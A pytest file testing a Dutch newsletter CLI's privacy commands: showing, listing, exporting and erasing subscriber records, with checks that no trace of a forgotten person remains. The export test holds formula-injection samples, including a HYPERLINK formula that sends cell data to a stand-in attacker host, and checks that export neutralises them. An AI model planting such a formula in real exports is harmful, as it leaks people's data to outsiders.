"""The AVG commands: show a person everything held about them, list, export, forget.

`forget` is checked the way a privacy officer would: every column of every table of the SQLite
file, and the file's bytes, searched for the address and the name.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsletter import store
from newsletter.cli.main import cli
from newsletter.errors import TransportError
from newsletter.issues.build import build_issue
from newsletter.outbound.issue_mail import deliver_issue
from newsletter.outbound.transports import MemoryTransport
from newsletter.outbound.transports.base import Envelope
from newsletter.outbound.transports.outbox import OutboxTransport
from newsletter.people import preferences, privacy
from newsletter.store import audit

# Two fictional Drenthe AV members from subscribers/demo/drenthe.csv.
LOTTE, LOTTE_NAME = "lotte.claessens@dr.example", "Lotte Claessens"
ERIK, ERIK_NAME = "erik.yilmaz@dr.example", "Erik Yılmaz"
REFUSAL = f"550 5.1.1 <{ERIK}>: Recipient address rejected: User unknown"


class Relay(OutboxTransport):
    """Writes .eml files into the instance's outbox like `outbox:outbox`, and refuses Erik."""

    def send(self, envelope: Envelope, data: bytes) -> str:
        if envelope.recipient == ERIK:
            raise TransportError(REFUSAL, permanent=True, reply=REFUSAL)
        return super().send(envelope, data)


@pytest.fixture
def sent(settings, loaded, december):
    """The December issue sent to all 626: Lotte's copy in outbox/, Erik's refused (a bounce)."""
    report = deliver_issue(
        loaded,
        settings,
        build_issue(loaded, settings, "2026-12").rendered,
        lambda: Relay(settings.project / "outbox"),
    )
    assert (len(report.failed), report.total) == (1, 626)
    return loaded


def found(database: Path, needle: str) -> set[str]:
    """table.column of every cell, in every table, whose text contains needle."""
    hits = set()
    with sqlite3.connect(database) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type='table'")]
        for table in tables:
            for column in [r[1] for r in conn.execute(f'pragma table_info("{table}")')]:
                sql = f'select count(*) from "{table}" where cast("{column}" as text) like ?'
                if conn.execute(sql, [f"%{needle}%"]).fetchone()[0]:
                    hits.add(f"{table}.{column}")
    return hits


def in_file_bytes(database: Path, needle: str) -> list[str]:
    """The store's files (the database, its WAL) whose bytes hold needle anywhere."""
    return [
        p.name
        for p in database.parent.glob(database.name + "*")
        if needle.encode() in p.read_bytes()
    ]


def suppressions(settings) -> list[dict]:
    with sqlite3.connect(settings.database) as conn:
        conn.row_factory = sqlite3.Row
        return [dict(r) for r in conn.execute("select * from suppressions")]


def import_drenthe(run):
    result = run("subscribers", "import", "subscribers/demo/drenthe.csv")
    assert result.exit_code == 0, result.output
    return result.stdout


# -- show -------------------------------------------------------------------------------------


def test_show_prints_the_record_consent_mandates_and_each_delivery(run, settings, sent):
    message_id = sent.execute("select message_id from deliveries where email = ?", [LOTTE])
    message_id = message_id.fetchone()[0]

    result = run("subscribers", "show", LOTTE)

    assert result.exit_code == 0, result.output
    out = result.stdout
    assert out.startswith(f"{LOTTE_NAME} <{LOTTE}>\n")
    for line in [
        "province:       DR",
        "status:         active",
        "themes:         landelijk-gebied",
        "source:         import:drenthe.csv",
        "consent_at:     2026-12-01T07:30:00+00:00",
        "Mandates (2):",
        "av_lid DR since 2023-03-30 (import:drenthe.csv)",
        "statenlid DR since 2023-03-30 (import:drenthe.csv)",
        "Deliveries (1):",
        "issue-2026-12  sent 2026-12-01T07:30:00+00:00",
        f"Message-ID {message_id}  to {LOTTE}",
        "Bounces (0):",
        "Outbox (1):",
    ]:
        assert line in out, line


def test_show_json_has_the_bounce_and_the_refused_delivery(run, sent):
    result = run("subscribers", "show", ERIK.upper(), "--json")  # any case finds the person

    assert result.exit_code == 0, result.output
    record = json.loads(result.stdout)
    assert record["subscriber"]["name"] == ERIK_NAME
    assert record["subscriber"]["source"] == "import:drenthe.csv"
    assert record["subscriber"]["consent_at"] == "2026-12-01T07:30:00+00:00"
    assert {(m["role"], m["province"]) for m in record["mandates"]} == {
        ("statenlid", "DR"),
        ("av_lid", "DR"),
    }
    [delivery] = record["deliveries"]
    assert delivery["mailing_id"] == "issue-2026-12"
    assert delivery["status"] == "failed"
    assert delivery["message_id"].startswith("<issue-2026-12.")
    assert delivery["subject"] == "Nieuwsbrief Statenleden december 2026"
    [bounce] = record["bounces"]
    assert (bounce["kind"], bounce["source"], bounce["reply"]) == ("hard", "smtp", REFUSAL)
    assert record["outbox"] == []  # the relay refused it: no copy was written


def test_show_of_an_unknown_address_is_one_line_and_exit_2(run, loaded):
    result = run("subscribers", "show", "niemand@dr.example")

    assert result.exit_code == 2
    assert result.stderr == (
        "Error: niemand@dr.example: no such subscriber; nothing is held about this address\n"
    )
    assert result.stdout == ""


# -- list -------------------------------------------------------------------------------------


def test_list_gives_one_line_per_person_filtered(run, loaded):
    result = run("subscribers", "list", "--province", "dr", "--role", "av_lid")

    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    expected = {
        r[0]
        for r in loaded.execute(
            "select distinct s.email from subscribers s join mandates m on m.subscriber_id = s.id "
            "where s.province = 'DR' and m.role = 'av_lid'"
        )
    }
    assert len(lines) == len(expected) == 2
    assert {line.split()[2] for line in lines} == expected == {LOTTE, ERIK}
    assert all(line.startswith("DR  active") and "av_lid,statenlid" in line for line in lines)
    assert result.stderr == "2 people\n"


def test_list_json_by_status(run, loaded):
    loaded.execute("update subscribers set status = 'unsubscribed' where email = ?", [ERIK])
    loaded.conn.commit()

    result = run("subscribers", "list", "--status", "unsubscribed", "--json")

    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == [
        {
            "id": loaded.execute("select id from subscribers where email = ?", [ERIK]).fetchone()[
                0
            ],
            "email": ERIK,
            "name": ERIK_NAME,
            "province": "DR",
            "status": "unsubscribed",
            "roles": ["av_lid", "statenlid"],
        }
    ]


def test_list_refuses_an_unknown_province(run, loaded):
    result = run("subscribers", "list", "--province", "XX")

    assert result.exit_code == 2
    assert "--province XX: not a province; use one of GR, FR, DR" in result.stderr


# -- export -----------------------------------------------------------------------------------

TRICKY = {
    "tricky1@gld.example": '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "tricky2@gld.example": "+31 6 12345678",
    "tricky3@gld.example": "@SUM(1+1)",
    "tricky4@gld.example": "-2+3",
}


def test_export_csv_neutralises_formulas_and_writes_one_row_per_person(run, loaded, tmp_path):
    rows = io.StringIO()
    writer = csv.writer(rows, delimiter=";")
    writer.writerow(["naam", "e-mail", "provincie", "rol"])
    for email, name in TRICKY.items():
        writer.writerow([name, email, "GLD", "statenlid"])
    (tmp_path / "lastig.csv").write_text(rows.getvalue(), encoding="utf-8")
    assert run("subscribers", "import", str(tmp_path / "lastig.csv")).exit_code == 0
    output = tmp_path / "export.csv"

    result = run("subscribers", "export", "--output", str(output))

    assert result.exit_code == 0, result.output
    assert result.stdout == ""  # the data went to the file only
    text = output.read_text(encoding="utf-8-sig")
    people = {r["email"]: r for r in csv.DictReader(io.StringIO(text), delimiter=";")}
    assert len(people) == 626 + len(TRICKY)
    for email, name in TRICKY.items():
        assert people[email]["name"] == "'" + name  # shown as text, never run
        assert people[email]["mandates"].startswith("statenlid GLD since ")
    lotte = people[LOTTE]
    assert (lotte["name"], lotte["province"], lotte["status"]) == (LOTTE_NAME, "DR", "active")
    assert lotte["themes"] == "landelijk-gebied"
    assert lotte["mandates"] == "av_lid DR since 2023-03-30; statenlid DR since 2023-03-30"
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # personal data: the owner only
    assert list(tmp_path.glob(".export.csv.*")) == []  # no temporary file left behind
    assert run("subscribers", "export").stdout == output.read_text(encoding="utf-8")


def test_export_json_keeps_values_as_they_are(run, loaded, tmp_path):
    (tmp_path / "een.csv").write_text(
        f"naam;e-mail;provincie\n{TRICKY['tricky2@gld.example']};tricky2@gld.example;GLD\n",
        encoding="utf-8",
    )
    assert run("subscribers", "import", str(tmp_path / "een.csv")).exit_code == 0

    result = run("subscribers", "export", "--format", "json")

    assert result.exit_code == 0, result.output
    people = {p["email"]: p for p in json.loads(result.stdout)}
    assert people["tricky2@gld.example"]["name"] == "+31 6 12345678"
    assert people[LOTTE]["themes"] == ["landelijk-gebied"]
    assert {m["role"] for m in people[LOTTE]["mandates"]} == {"av_lid", "statenlid"}


def test_export_refuses_an_unknown_format(run, loaded):
    result = run("subscribers", "export", "--format", "xlsx")

    assert result.exit_code == 2
    assert "'xlsx' is not one of 'csv', 'json'" in result.output


# -- forget -----------------------------------------------------------------------------------


def test_forget_leaves_nothing_but_a_keyed_hash(run, settings, sent):
    outbox = settings.project / "outbox"
    copies = len(list(outbox.glob("*.eml")))
    for needle in (LOTTE, LOTTE_NAME, ERIK, ERIK_NAME):
        assert found(settings.database, needle), f"{needle} should be in the store before"
    assert found(settings.database, ERIK) >= {"subscribers.email", "deliveries.email"}
    assert "bounces.reply" in found(settings.database, ERIK)

    for email in (LOTTE, ERIK):
        result = run("subscribers", "forget", email, "--yes")
        assert result.exit_code == 0, result.output
    assert result.stdout.startswith(f"Forgot {ERIK}: erased subscriber 1, mandates 2, ")

    for needle in (LOTTE, LOTTE_NAME, ERIK, ERIK_NAME):
        assert found(settings.database, needle) == set(), needle
        assert in_file_bytes(settings.database, needle) == [], needle  # no old copies either
    assert len(list(outbox.glob("*.eml"))) == copies - 1  # Lotte's copy is gone, no other
    kept = suppressions(settings)
    assert [r["reason"] for r in kept] == ["forgotten", "forgotten"]
    plain = {hashlib.sha256(e.encode()).hexdigest() for e in (LOTTE, ERIK)}
    assert not plain & {r["email_hash"] for r in kept}  # keyed, not a guessable plain hash
    assert store.open_store(settings).table("subscribers").count == 624
    shown = run("subscribers", "show", LOTTE)
    assert shown.exit_code == 2
    assert "no such subscriber" in shown.stderr


def test_a_forgotten_person_is_not_imported_again(run, settings, loaded, tmp_path):
    assert run("subscribers", "forget", LOTTE, "--yes").exit_code == 0

    assert "1 left alone" in import_drenthe(run)
    (tmp_path / "nieuw.csv").write_text(
        f"naam;e-mail;provincie\n{LOTTE_NAME};  {LOTTE.upper()} ;DR\n", encoding="utf-8"
    )
    again = run("subscribers", "import", str(tmp_path / "nieuw.csv"))

    assert again.exit_code == 0 and "0 added" in again.stdout and "1 left alone" in again.stdout
    assert found(settings.database, LOTTE) == set()
    assert run("subscribers", "show", LOTTE).exit_code == 2


def test_forget_asks_first_and_erases_nothing_when_told_no(run, loaded):
    result = typed(run, "n\n", "subscribers", "forget", LOTTE)

    assert result.exit_code == 1
    assert f"Forget {LOTTE_NAME} <{LOTTE}> everywhere (2 mandates" in result.output
    assert "Nothing erased." in result.output
    assert run("subscribers", "show", LOTTE).exit_code == 0

    result = typed(run, "y\n", "subscribers", "forget", LOTTE)

    assert result.exit_code == 0
    assert f"Forgot {LOTTE}" in result.output
    assert run("subscribers", "show", LOTTE).exit_code == 2


def test_forget_of_an_unknown_address_is_exit_2_and_a_second_forget_says_so(run, settings, loaded):
    unknown = run("subscribers", "forget", "niemand@dr.example", "--yes")
    assert unknown.exit_code == 2
    assert unknown.stderr.startswith("Error: niemand@dr.example: no such subscriber")
    bad = run("subscribers", "forget", "geen adres", "--yes")
    assert bad.exit_code == 2
    assert bad.stderr.startswith("Error: 'geen adres' is not an e-mail address")

    assert run("subscribers", "forget", LOTTE, "--yes").exit_code == 0
    again = run("subscribers", "forget", LOTTE, "--yes")

    assert again.exit_code == 0
    assert again.stdout == f"{LOTTE}: already forgotten; nothing is held, imports skip it\n"
    assert len(suppressions(settings)) == 1


def test_a_hash_made_with_an_old_key_is_recognised_during_rotation(run, loaded, monkeypatch):
    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", "old-key-2025")
    assert run("subscribers", "forget", LOTTE, "--yes").exit_code == 0

    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", "old-key-2025,new-key-2026")
    assert "1 left alone" in import_drenthe(run)
    shown = run("subscribers", "show", LOTTE)
    assert "(it is suppressed, reason forgotten: imports skip it)" in shown.stderr

    # Forgetting under the new key stores the new key's hash: the old key may then retire.
    assert run("subscribers", "forget", ERIK, "--yes").exit_code == 0
    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", "new-key-2026")
    assert "1 left alone" in import_drenthe(run)  # Erik; Lotte's hash needs the old key
    assert run("subscribers", "show", ERIK).exit_code == 2
    assert run("subscribers", "show", LOTTE).exit_code == 0


def test_the_hash_is_keyed_an_unrelated_key_does_not_recognise_it(run, loaded, monkeypatch):
    assert run("subscribers", "forget", LOTTE, "--yes").exit_code == 0  # the demo key

    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", "someone-elses-key")

    assert "1 added" in import_drenthe(run)


def test_forget_needs_the_secret_key_and_then_erases_nothing(run, settings, loaded):
    config = run.project / "newsletter.toml"
    config.write_text(config.read_text().replace("demo = true", "demo = false"))

    result = run("subscribers", "forget", LOTTE, "--yes")

    assert result.exit_code == 2
    assert result.stderr.startswith("Error: NEWSLETTER_SECRET_KEY is not set")
    assert found(settings.database, LOTTE) == {"subscribers.email"}


def test_ids_are_not_handed_out_again_after_forget(run, loaded, tmp_path):
    newest = loaded.execute("select email, id from subscribers order by id desc limit 1")
    email, old_id = newest.fetchone()
    assert run("subscribers", "forget", email, "--yes").exit_code == 0
    (tmp_path / "nieuw.csv").write_text(
        "naam;e-mail;provincie\nNieuw Lid;nieuw.lid@gld.example;GLD\n", encoding="utf-8"
    )
    assert run("subscribers", "import", str(tmp_path / "nieuw.csv")).exit_code == 0

    shown = json.loads(run("subscribers", "show", "nieuw.lid@gld.example", "--json").stdout)

    # The forgotten person's old unsubscribe link names id old_id: it must not be theirs.
    assert shown["subscriber"]["id"] == old_id + 1


def test_forgetting_someone_while_the_issue_goes_out(settings, loaded, december):
    """A send under way neither crashes on nor re-creates people forgotten meanwhile."""
    queue = [r[0] for r in loaded.execute("select email from subscribers order by id")]
    assert queue.index(LOTTE) == 0 and queue.index(ERIK) > 0

    class Meanwhile(MemoryTransport):
        def send(self, envelope: Envelope, data: bytes) -> str:
            if envelope.recipient == LOTTE:  # while her message is in flight: forget her,
                other = store.open_store(settings)  # (staff, in another process)
                privacy.forget(other, settings, LOTTE)  # and Erik, next in the queue
                privacy.forget(other, settings, ERIK)
                refusal = f"550 5.1.1 <{LOTTE}>: User unknown"  # a bounce naming her
                raise TransportError(refusal, permanent=True, reply=refusal)
            return super().send(envelope, data)

    transports: list[Meanwhile] = []

    def factory() -> Meanwhile:
        transports.append(Meanwhile())
        return transports[-1]

    report = deliver_issue(
        loaded, settings, build_issue(loaded, settings, "2026-12").rendered, factory
    )

    sent_to = {envelope.recipient for t in transports for envelope, _ in t.sent}
    assert len(sent_to) == 624 and not {LOTTE, ERIK} & sent_to
    assert report.skipped == 1  # Erik
    for needle in (LOTTE, LOTTE_NAME, ERIK, ERIK_NAME):
        assert found(settings.database, needle) == set(), needle  # no bounce row came back
    assert loaded.table("bounces").count == 0


def typed(run, text: str, *args: str):
    """The CLI as `run` gives it, with text typed at the prompt."""
    return CliRunner().invoke(
        cli, ["--project", str(run.project), *args], input=text, catch_exceptions=False
    )


def test_forget_removes_the_persons_audit_trail_and_records_only_that_someone_was_forgotten(
    settings, loaded, run
) -> None:
    from newsletter.people.preferences import unsubscribe
    from newsletter.store import audit

    kees = next(loaded.query("select id from subscribers where email = 'kees.sanders@gld.example'"))
    unsubscribe(loaded, kees["id"], "web", "one-click")
    assert audit.events(loaded, f"subscriber:{kees['id']}")
    assert run("subscribers", "forget", "kees.sanders@gld.example", "--yes").exit_code == 0
    assert audit.events(loaded, f"subscriber:{kees['id']}") == []
    forgotten = audit.events(loaded, "subscriber:forgotten")
    sanne = "staff:sanne@ipo.example"  # the account the OS user is mapped to
    assert [(e.actor, e.action, e.detail) for e in forgotten] == [(sanne, "forget", None)]


# -- show by name or id, resubscribe --------------------------------------------------------


def test_show_finds_a_person_by_name_or_id_and_lists_several_matches(run, loaded):
    by_name = run("subscribers", "show", "lotte claessens")
    assert by_name.exit_code == 0, by_name.output
    assert by_name.stdout.startswith(f"{LOTTE_NAME} <{LOTTE}>\n")
    number = loaded.execute("select id from subscribers where email = ?", [LOTTE]).fetchone()[0]
    assert run("subscribers", "show", str(number)).stdout == by_name.stdout
    several = run("subscribers", "show", "Wijnands")
    assert several.exit_code == 2
    assert several.stderr.startswith(
        "Error: 'Wijnands' matches 3 people; name one by e-mail or id:"
    )
    assert "julia.wijnands@ut.example  Julia Wijnands (UT, active)" in several.stderr
    nobody = run("subscribers", "show", "Niemand Bestaat")
    assert nobody.exit_code == 2 and "no subscriber whose name or address contains" in nobody.stderr


def test_resubscribe_needs_an_unsubscribed_person_and_a_reason_and_is_logged(run, loaded):
    not_yet = run("subscribers", "resubscribe", LOTTE, "--reason", "per ongeluk")
    assert not_yet.exit_code == 2
    assert "is active, not unsubscribed: nothing to re-subscribe" in not_yet.stderr
    number = loaded.execute("select id from subscribers where email = ?", [LOTTE]).fetchone()[0]
    preferences.unsubscribe(loaded, number, "web", "link")
    # --resume does not bring back someone who unsubscribed: it says what does
    resumed = run("subscribers", "set", LOTTE, "--resume")
    assert resumed.exit_code == 2
    assert resumed.stderr == (
        f"Error: {LOTTE}: --resume changes only an active or paused subscription, this one is "
        "unsubscribed; to subscribe them again: newsletter subscribers resubscribe EMAIL "
        "--reason TEXT\n"
    )
    empty = run("subscribers", "resubscribe", LOTTE, "--reason", "  ")
    assert empty.exit_code == 2 and "needs a reason" in empty.stderr
    unknown = run("subscribers", "resubscribe", LOTTE, "--reason", "belde", "--request", "99")
    assert unknown.exit_code == 2 and "--request 99: no such conversation" in unknown.stderr
    done = run("subscribers", "resubscribe", LOTTE, "--reason", "Belde: per ongeluk afgemeld")
    assert done.exit_code == 0, done.output
    assert done.stdout == f"{LOTTE}: active again (subscribed by staff:sanne@ipo.example)\n"
    [event] = [e for e in audit.events(loaded, f"subscriber:{number}") if e.action == "resubscribe"]
    assert event.actor == "staff:sanne@ipo.example"
    assert event.details == {"reason": "Belde: per ongeluk afgemeld"}
